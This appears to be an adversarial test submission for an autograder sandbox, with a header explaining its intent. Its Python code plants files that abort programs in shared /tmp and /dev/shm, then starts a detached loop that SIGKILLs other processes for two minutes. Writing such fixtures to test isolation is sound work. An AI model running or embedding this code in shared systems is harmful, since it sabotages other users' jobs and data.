# about: leaves a detached process that, for two minutes, kills every process of later runs and plants files in the shared /tmp and /dev/shm (in a pre-started sandbox shared by one worker's submissions, it would sabotage the students graded after it), then answers correctly
# base: 00_orientation/ada
# expect: auto=8

# %% first:
import os, subprocess, sys
script = r'''
import os, signal, time
me, home = os.getpid(), os.getcwd()
for d in ("/tmp", "/dev/shm"):
    try:
        open(os.path.join(d, "planted.py"), "w").write("raise SystemExit('planted by another submission')\n")
    except OSError:
        pass
end = time.time() + 120
while time.time() < end:
    for p in os.listdir("/proc"):
        if not p.isdigit() or int(p) in (1, me):
            continue
        try:
            if os.readlink(f"/proc/{p}/cwd") != home:
                os.kill(int(p), signal.SIGKILL)
        except OSError:
            pass
    time.sleep(0.05)
'''
subprocess.Popen([sys.executable, "-c", script], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
